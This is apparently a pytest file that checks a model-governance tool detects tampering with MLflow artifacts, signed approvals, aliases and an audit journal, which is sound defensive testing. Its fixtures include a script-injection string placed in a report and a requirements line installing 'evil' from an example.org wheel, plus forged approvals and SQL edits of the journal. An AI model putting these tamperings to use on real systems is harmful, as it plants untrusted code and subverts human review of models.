"""Whoever can write to MLflow, to the records or to both is found out: by `tactful verify`, by `load`, or by both.

Everything that decides what a service answers is refused by `load`. What misleads a reader alone is named by `verify`.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any, Literal

import numpy as np
import pytest
from mlflow.models import Model, ModelSignature
from mlflow.types import ColSpec, DataType, ParamSchema, ParamSpec, Schema
from mlflow.types.schema import Array

from tactful.assurance.registry_folder import data_path
from tactful.cli import main
from tactful.errors import ModelRefusedError
from tactful.records.store import Records
from tactful.scoring.signing import SignedDocument, load_private
from tampering_world import Shop, approved, ended, entered, make_shop, trained

ACTIVE = '<script>document.body.textContent = "all is fair"</script>'


@pytest.fixture(scope="module")
def template(_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The shop that every tampering gets a copy of."""
    folder = tmp_path_factory.mktemp("tampering") / "shop"
    make_shop(_template, folder)
    return folder


@pytest.fixture
def shop(template: Path, tmp_path: Path) -> Iterator[Shop]:
    """A copy, and a service that starts now and shares the machine with whoever approved."""
    made = Shop.copy(template, tmp_path / "shop")
    with entered(made.folder):
        yield made


@dataclass(frozen=True, kw_only=True)
class Tampering:
    """One thing that somebody does.

    Attributes
    ----------
    what : str
        In words.
    do : callable
    verify : str
        The name by which `verify` tells it.
    load : str
        What `load` says of it; empty where it decides nothing about what is served.
    """

    what: str
    do: Callable[[Shop], object]
    verify: str
    load: str = ""


def flip(path: Path, where: int = -1) -> None:
    """One bit of a file is another."""
    raw = bytearray(path.read_bytes())
    raw[where] ^= 1
    path.write_bytes(raw)


def retype(shop: Shop) -> None:
    """The base is stored as floats of 64 bits."""
    path = shop.artifact() / "base.npy"
    np.save(path, np.load(path).astype(np.float64))


def edit_manifest(shop: Shop) -> None:
    """The manifest claims less privacy loss."""
    path = shop.artifact() / "manifest.json"
    told = json.loads(path.read_text())
    told["meta"]["epsilon"] = 0.1
    path.write_text(json.dumps(told))


def rewrite_array(shop: Shop) -> None:
    """An array is another, and the manifest promises exactly that one."""
    path, manifest = shop.artifact() / "base.npy", shop.artifact() / "manifest.json"
    flip(path)
    told = json.loads(manifest.read_text())
    told["arrays"]["base"]["sha256"] = hashlib.sha256(path.read_bytes()).hexdigest()
    manifest.write_text(json.dumps(told))


def other_arrays(shop: Shop) -> None:
    """The champion's tastes are those of the version before."""
    for name in ("encoder.npy", "decoder.npy"):
        shutil.copy(shop.artifact("1") / name, shop.artifact("2") / name)


def expire(shop: Shop) -> None:
    """Nobody looks at it until its approval is over."""
    shop.now = datetime.fromisoformat(str(shop.signed().payload["expires_at"]))


def put_back(shop: Shop) -> None:
    """Every byte of the champion is that of the version before, its approval too."""
    shutil.rmtree(shop.artifact("2"))
    shutil.copytree(shop.artifact("1"), shop.saved("2") / "data" / "shop")


def reject_and_revive(shop: Shop) -> None:
    """The champion is rejected, and somebody puts its approval, the tag and the alias back."""
    revive(shop, "reject")


def retire_and_revive(shop: Shop) -> None:
    """The champion is retired, and somebody puts its approval, the tag and the alias back."""
    revive(shop, "retire")


def revive(shop: Shop, how: Literal["reject", "retire"]) -> None:
    """What was ended looks approved again."""
    before = shop.signed()
    ended(shop.folder, "2", how)
    shop.put(before)
    shop.client.set_model_version_tag("shop", "2", "status", "approved")
    alias(shop, "2")


def alias(shop: Shop, version: str) -> None:
    """The alias points at a version by hand."""
    shop.client.set_registered_model_alias("shop", "champion", version)


def reregister(shop: Shop) -> None:
    """The model is deleted and made anew from the artifact of the version before, as version 1."""
    client, source = shop.client, shop.client.get_model_version("shop", "1")
    client.delete_registered_model("shop")
    client.create_registered_model("shop")
    client.create_model_version("shop", source.source, run_id=source.run_id, tags=dict(source.tags))
    alias(shop, "1")


def foreign_decision(shop: Shop) -> None:
    """Somebody who can append to the journal ends the champion with a key of their own, and MLflow follows."""
    number = int(shop.signed().payload["sequence"]) + 1
    document = shop.sign("stranger", decision="rejected", sequence=number, overrides={})
    body = {"payload": dict(document.payload), "public_key": document.public_key, "signature": document.signature}
    with Records.open().transaction() as transaction:
        transaction.append("model.rejected", body | {"name": "Ada"}, actor=document.public_key)
    shop.put(document)
    shop.client.set_model_version_tag("shop", "2", "status", "rejected")
    shop.client.delete_registered_model_alias("shop", "champion")


def own_approval(shop: Shop) -> None:
    """The trainer appends an approval of the candidate to the journal and shows it in MLflow."""
    trained(shop.folder, "3")
    digest = hashlib.sha256((shop.artifact("3") / "manifest.json").read_bytes()).hexdigest()
    document = shop.sign("trainer", version="3", manifest_digest=digest, sequence=9)
    body = {"payload": dict(document.payload), "public_key": document.public_key, "signature": document.signature}
    with Records.open().transaction() as transaction:
        transaction.append("model.approved", body | {"name": "Ada"}, actor=document.public_key)
    shop.put(document, "3")
    alias(shop, "3")


def remove_reviewer(shop: Shop) -> None:
    """Whoever approved is on the list no more."""
    path = shop.folder / "reviewers.toml"
    stranger = load_private(shop.folder / "stranger.key").public_key().public_bytes_raw().hex()
    path.write_text(f'[[reviewer]]\nname = "Eve"\npublic_key = "ed25519:{stranger}"\n')


def other_loader(shop: Shop) -> None:
    """MLflow is told to load the model by other code."""
    path = shop.saved() / "MLmodel"
    path.write_text(path.read_text().replace("tactful.scoring.pyfunc", "mlflow.sklearn"))


def sign_inputs(shop: Shop) -> None:
    """MLflow is to convert what it is sent: the text "no" into true."""
    columns = [ColSpec(Array(DataType.string), "history"), ColSpec(DataType.boolean, "profiling")]
    _describe(shop, inputs=Schema(columns))


def sign_parameters(shop: Shop) -> None:
    """MLflow is to say that everybody allows profiling and opted into everything."""
    allowed = ParamSpec("allowed_categories", DataType.string, ["health"], shape=(-1,))
    _describe(shop, params=ParamSchema([ParamSpec("profiling", DataType.boolean, True), allowed]))


def _describe(shop: Shop, **signature: Any) -> None:
    described = Model.load(str(shop.saved() / "MLmodel"))
    described.signature = ModelSignature(outputs=described.signature.outputs, **signature)
    described.save(str(shop.saved() / "MLmodel"))


def configure(shop: Shop) -> None:
    """MLflow is to hand settings to the loader."""
    path = shop.saved() / "MLmodel"
    path.write_text(path.read_text().replace("    loader_module:", "    config:\n      x: 1\n    loader_module:"))


def longer(shop: Shop) -> None:
    """The approval says a later end than was signed."""
    signed = shop.signed()
    payload = {**signed.payload, "expires_at": "2036-01-01T00:00:00+00:00"}
    shop.put(SignedDocument(payload=payload, public_key=signed.public_key, signature=signed.signature))


def swap_rows(shop: Shop) -> None:
    """The two approvals change places in the journal."""
    first, second = shop.entries("model.approved")
    moves = ((first, 999), (second, first), (999, second))
    shop.sql(*(f"UPDATE journal SET sequence = {new} WHERE sequence = {old}" for old, new in moves))  # noqa: S608


def two_people(shop: Shop) -> None:
    """From now on two must sign, and did; then the signature of one is taken away."""
    require_two(shop)
    verdicts = trained(shop.folder, "3")
    for key in ("reviewer", "stranger"):
        approved(shop.folder, "3", verdicts=verdicts, key=key)
    assert shop.refusal() == ""
    path = shop.artifact("3") / "approval.json"
    told = json.loads(path.read_text())
    del told["with"]
    path.write_text(json.dumps(told, sort_keys=True, separators=(",", ":")))


def require_two(shop: Shop) -> None:
    """Two must sign for a model, and a second person may."""
    path = shop.folder / "reviewers.toml"
    stranger = load_private(shop.folder / "stranger.key").public_key().public_bytes_raw().hex()
    second = f'[[reviewer]]\nname = "Eve"\npublic_key = "ed25519:{stranger}"\n'
    path.write_text(f"approvals_needed = 2\n{path.read_text()}{second}")


def requirements(shop: Shop) -> None:
    """MLflow is to install something else, too."""
    path = shop.saved() / "requirements.txt"
    path.write_text(path.read_text() + "\nevil @ https://example.org/evil.whl\n")


TWELVE = [
    Tampering(
        what="a byte of an array flipped",
        do=lambda shop: flip(shop.artifact() / "encoder.npy"),
        verify="array_altered",
        load="encoder.npy was altered",
    ),
    Tampering(
        what="arrays swapped with another version's",
        do=other_arrays,
        verify="array_altered",
        load="coder.npy",
    ),
    Tampering(what="an array stored as another type", do=retype, verify="array_altered", load="base.npy"),
    Tampering(what="the manifest edited", do=edit_manifest, verify="manifest_altered", load="manifest.json is another"),
    Tampering(
        what="another version's signature put beside it",
        do=lambda shop: shop.put(shop.signed("1"), "2"),
        verify="approval_not_latest",
        load="signature is of another model",
    ),
    Tampering(what="the approval expired", do=expire, verify="approval_expired", load="it expired at"),
    Tampering(
        what="a retired version's approval put back",
        do=retire_and_revive,
        verify="approval_not_latest",
        load="retire",
    ),
    Tampering(
        what="the alias moved by hand to the champion before",
        do=lambda shop: alias(shop, "1"),
        verify="alias_moved",
        load="seen was 2",
    ),
    Tampering(
        what="the fairness report edited",
        do=lambda shop: shop.client.log_text(shop.run(), ACTIVE, "report.html"),
        verify="document_altered",
    ),
    Tampering(what="the run deleted", do=lambda shop: shop.client.delete_run(shop.run()), verify="run_deleted"),
    Tampering(
        what="all files of an older, signed version put back",
        do=put_back,
        verify="manifest_altered",
        load="signature is of another model",
    ),
    Tampering(
        what="a row of the journal removed",
        do=lambda shop: shop.sql(f"DELETE FROM journal WHERE sequence = {shop.entries('model.')[1]}"),  # noqa: S608
        verify="journal_row_missing",
    ),
]

MORE = [
    Tampering(
        what="an array and the manifest edited alike",
        do=rewrite_array,
        verify="manifest_altered",
        load="manifest.json is another",
    ),
    Tampering(
        what="an array removed",
        do=lambda shop: (shop.artifact() / "base.npy").unlink(),
        verify="array_missing",
        load="base.npy is missing",
    ),
    Tampering(
        what="a file added to the artifact",
        do=lambda shop: (shop.artifact() / "code.py").write_text("print(1)"),
        verify="array_added",
        load="code.py is not listed",
    ),
    Tampering(
        what="an array replaced by a link",
        do=lambda shop: _link(shop.artifact() / "base.npy"),
        verify="array_altered",
        load="base.npy is a link",
    ),
    Tampering(
        what="the approval removed",
        do=lambda shop: (shop.artifact() / "approval.json").unlink(),
        verify="approval_missing",
        load="there is no approval.json",
    ),
    Tampering(what="the approval's end edited", do=longer, verify="approval_altered", load="altered"),
    Tampering(
        what="an approval signed by a stranger",
        do=lambda shop: shop.put(shop.sign("stranger")),
        verify="approval_altered",
        load="the signer is not one",
    ),
    Tampering(
        what="an approval signed by the trainer",
        do=own_approval,
        verify="journal_statement_invalid",
        load="the signer is not one",
    ),
    Tampering(
        what="the alias moved by hand to a candidate",
        do=lambda shop: (trained(shop.folder, "3"), alias(shop, "3")),
        verify="alias_moved",
        load="there is no approval.json",
    ),
    Tampering(
        what="the alias removed",
        do=lambda shop: shop.client.delete_registered_model_alias("shop", "champion"),
        verify="alias_missing",
        load="no version has this alias",
    ),
    Tampering(
        what="a rejected version's approval put back",
        do=reject_and_revive,
        verify="approval_not_latest",
        load="a rejection of this version",
    ),
    Tampering(
        what="the reviewer who approved taken off the list",
        do=remove_reviewer,
        verify="signer_not_reviewer",
        load="the signer is not one",
    ),
    Tampering(
        what="one of two signatures taken away",
        do=two_people,
        verify="approval_altered",
        load="something else",
    ),
    Tampering(
        what="approved by one where two must sign by now",
        do=require_two,
        verify="approvals_too_few",
        load="1 who may approve",
    ),
    Tampering(
        what="the version deleted",
        do=lambda shop: shop.client.delete_model_version("shop", "2"),
        verify="version_missing",
        load="no version has this alias",
    ),
    Tampering(
        what="the model deleted and made anew from an older version",
        do=reregister,
        verify="version_missing",
        load="seen was 2",
    ),
    Tampering(
        what="all files of the model removed",
        do=lambda shop: shutil.rmtree(shop.saved()),
        verify="artifact_missing",
        load="it is not",
    ),
    Tampering(
        what="all documents of the run removed",
        do=lambda shop: shutil.rmtree(_document(shop, "report.html").parent),
        verify="document_missing",
    ),
    Tampering(
        what="the logged model deleted",
        do=lambda shop: shop.client.delete_logged_model(shop.registry.version("shop", "2").model_id),
        verify="logged_model_missing",
    ),
    Tampering(what="MLflow told to load it by other code", do=other_loader, verify="mlmodel_altered"),
    Tampering(what="MLflow told which columns go in", do=sign_inputs, verify="mlmodel_altered"),
    Tampering(what="MLflow told what everybody allows", do=sign_parameters, verify="mlmodel_altered"),
    Tampering(what="MLflow told of settings", do=configure, verify="mlmodel_altered"),
    Tampering(what="a package added to what MLflow installs", do=requirements, verify="environment_altered"),
    Tampering(
        what="code added beside the artifact",
        do=lambda shop: (shop.saved() / "code.py").write_text("print(1)"),
        verify="environment_altered",
    ),
    Tampering(
        what="the tag of a verdict edited",
        do=lambda shop: shop.client.set_tag(shop.run(), "verdict.ndcg_by_age", "fail"),
        verify="tag_differs",
    ),
    Tampering(
        what="the tag of the status edited",
        do=lambda shop: shop.client.set_model_version_tag("shop", "2", "status", "rejected"),
        verify="status_differs",
    ),
    Tampering(
        what="the tag of who decided edited",
        do=lambda shop: shop.client.set_model_version_tag("shop", "2", "decided_by", "Grace"),
        verify="tag_differs",
    ),
    Tampering(
        what="a metric edited",
        do=lambda shop: shop.client.log_metric(shop.run(), "ndcg_at_10", 0.99),
        verify="figure_differs",
    ),
    Tampering(
        what="a metric added",
        do=lambda shop: shop.client.log_metric(shop.run(), "satisfaction", 0.99),
        verify="figure_added",
    ),
    Tampering(
        what="a document added",
        do=lambda shop: shop.client.log_text(shop.run(), "all is well", "review/opinion.md"),
        verify="document_added",
    ),
    Tampering(
        what="the model card replaced",
        do=lambda shop: shop.client.log_text(shop.run(), "# Card", "model_card.md"),
        verify="document_altered",
    ),
    Tampering(
        what="the privacy statement removed",
        do=lambda shop: _document(shop, "privacy_statement.yaml").unlink(),
        verify="document_missing",
    ),
    Tampering(
        what="a row of the journal edited",
        do=lambda shop: shop.sql("UPDATE journal SET actor = 'somebody' WHERE sequence = 2"),
        verify="journal_row_edited",
    ),
    Tampering(what="two rows of the journal swapped", do=swap_rows, verify="journal_chain_broken"),
    Tampering(
        what="the end of the journal cut off",
        do=lambda shop: shop.sql(f"DELETE FROM journal WHERE sequence >= {shop.entries('model.approved')[-1]}"),  # noqa: S608
        verify="journal_behind",
    ),
    Tampering(
        what="a stranger's rejection appended to the journal, MLflow made to fit",
        do=foreign_decision,
        verify="signer_not_reviewer",
        load="no version has this alias",
    ),
]


def _link(path: Path) -> None:
    path.rename(path.parents[3] / "elsewhere.npy")
    path.symlink_to(path.parents[3] / "elsewhere.npy")


def _document(shop: Shop, name: str) -> Path:
    return Path(shop.client.get_run(shop.run()).info.artifact_uri.removeprefix("file://")) / name


def test_what_nobody_touched_agrees_and_is_served(shop: Shop) -> None:
    """The copy is whole: whatever is found below was made there."""
    assert (shop.verified().mismatches, shop.refusal()) == ((), "")


def test_the_command_says_what_it_finds(
    shop: Shop, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Exit code 0 where all agrees, 3 with each mismatch by name, 2 for a model that nobody knows; JSON on one line."""

    def call(*arguments: str) -> tuple[int, dict[str, Any]]:
        monkeypatch.setattr(sys, "argv", ["tactful", "verify", *arguments, "--json"])
        with pytest.raises(SystemExit) as stopped:
            main()
        lines = capsys.readouterr().out.splitlines()
        return int(stopped.value.code or 0), json.loads(lines[-1]) if lines else {}

    code, found = call("shop", "--trusted-keys", "reviewers.toml")
    assert (code, found["ok"], found["mismatches"]) == (0, True, [])
    assert found["checked"]["versions"] == 2
    head = found["head"]
    shop.client.log_text(shop.run(), ACTIVE, "report.html")
    code, found = call("shop", "--head", head)
    (mismatch,) = found["mismatches"]
    assert (code, found["ok"]) == (3, False)
    assert set(found) == {"ok", "model", "checked", "mismatches", "notes", "head"}
    assert (mismatch["name"], mismatch["version"]) == ("document_altered", "2")
    assert set(mismatch) == {"name", "version", "what", "do"}
    assert call("nothing")[0] == 2
    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{shop.folder}/nowhere.db")
    code, found = call("shop")
    assert (code, [each["name"] for each in found["mismatches"]]) == (3, ["mlflow_unreachable"])
    assert not (shop.folder / "nowhere.db").exists()


def _ids(tampering: Tampering) -> str:
    return tampering.what.replace(" ", "-")


def _check(tampering: Tampering, shop: Shop, record_property: Callable[[str, object], None]) -> None:
    """It is caught as the table says: by that name, and in those words or not at all."""
    tampering.do(shop)
    found, refusal = shop.verified(), shop.refusal()
    record_property("evidence", f"{tampering.what} | verify: {', '.join(sorted(found.names))} | load: {refusal or '-'}")
    assert tampering.verify in found.names, found.mismatches
    assert tampering.load in refusal
    assert bool(tampering.load) is bool(refusal)


@pytest.mark.parametrize("tampering", TWELVE, ids=_ids)
def test_tampering_is_caught(tampering: Tampering, shop: Shop, record_property: Callable[[str, object], None]) -> None:
    """The kinds that everybody should expect."""
    _check(tampering, shop, record_property)


@pytest.mark.prove
@pytest.mark.parametrize("tampering", MORE, ids=_ids)
def test_more_tampering_is_caught(
    tampering: Tampering, shop: Shop, record_property: Callable[[str, object], None]
) -> None:
    """And those that somebody with more patience comes upon."""
    _check(tampering, shop, record_property)


@pytest.mark.prove
def test_any_byte_of_any_file_counts(shop: Shop, record_property: Callable[[str, object], None]) -> None:
    """A byte changed anywhere, in every file that MLflow holds of the champion, is found; so is every field of a row.

    Of what MLflow itself wrote beside the artifact only the first byte is changed here. Such a file also says which
    versions it was written with, which decides nothing; the test below looks at every byte of the one that decides.
    """
    rng = np.random.default_rng(6)
    run = Path(shop.client.get_run(shop.run()).info.artifact_uri.removeprefix("file://"))
    files = [path for folder in (run, shop.saved()) for path in sorted(folder.rglob("*")) if path.is_file()]
    missed = []
    for path in files:
        raw = path.read_bytes()
        flip(path, 0 if path.parent == shop.saved() else int(rng.integers(len(raw))))
        if shop.verified().ok:
            missed.append(path.name)
        path.write_bytes(raw)
    assert missed == []
    assert shop.verified().ok
    fields = ("time", "kind", "actor", "body", "previous", "digest")
    for row in (1, *shop.entries("model.")):
        for field in fields:
            kept = shop.exchange(row, field, b"x" if field == "body" else "x")
            if shop.verified().ok:
                missed.append(f"{field} of row {row}")
            shop.exchange(row, field, kept)
    assert missed == []
    assert shop.verified().ok
    record_property("evidence", f"one byte changed in each of {len(files)} files: {len(files)} found")


@pytest.mark.prove
def test_no_bit_that_decides_how_a_model_loads_is_free(
    shop: Shop, record_property: Callable[[str, object], None]
) -> None:
    """A bit changed in any byte of MLmodel is refused, or MLflow understands the same but for facts of its making."""
    path = shop.saved() / "MLmodel"
    raw, before, refused = path.read_bytes(), _understood(path), 0
    free = {"artifact_path", "mlflow_version", "model_id", "model_size_bytes", "model_uuid", "run_id"}
    free |= {"utc_time_created", "python_version", "outputs"}
    for where in range(len(raw)):
        flip(path, where)
        try:
            data_path(path, "shop", "2")
        except ModelRefusedError:
            refused += 1
        else:
            changed = {name for name, value in _understood(path).items() ^ before.items()}
            assert changed <= free, (where, changed)
        path.write_bytes(raw)
    assert refused > 200
    record_property(
        "evidence", f"{refused} of {len(raw)} bytes of MLmodel cannot be changed, the others decide nothing"
    )


def _understood(path: Path) -> dict[str, str]:
    """What MLflow makes of MLmodel, of which null and false say nothing; keys within are told as those outside."""
    told = Model.load(str(path)).to_dict()
    told |= {"flavours": sorted(told["flavors"])} | told.pop("flavors")["python_function"] | told.pop("signature")
    return {name: repr(value) for name, value in told.items() if value is not None and value is not False}


@pytest.mark.prove
def test_a_service_that_forgot_is_seen_by_verify_alone(shop: Shop) -> None:
    """The limit: where the file of what was seen is removed as well, a champion of before is served again."""
    alias(shop, "1")
    (shop.folder / "seen.json").unlink()
    assert shop.refusal() == ""
    assert "alias_moved" in shop.verified().names


@pytest.mark.prove
def test_an_approval_renewed_is_the_only_one_that_counts(shop: Shop) -> None:
    """Where the champion before was approved again, the one between is refused, and everything agrees."""
    approved(shop.folder, "1", verdicts=dict.fromkeys(shop.open_rules("1"), "open"))
    assert (shop.verified().mismatches, shop.refusal()) == ((), "")
    alias(shop, "2")
    assert "seen was 3" in shop.refusal()
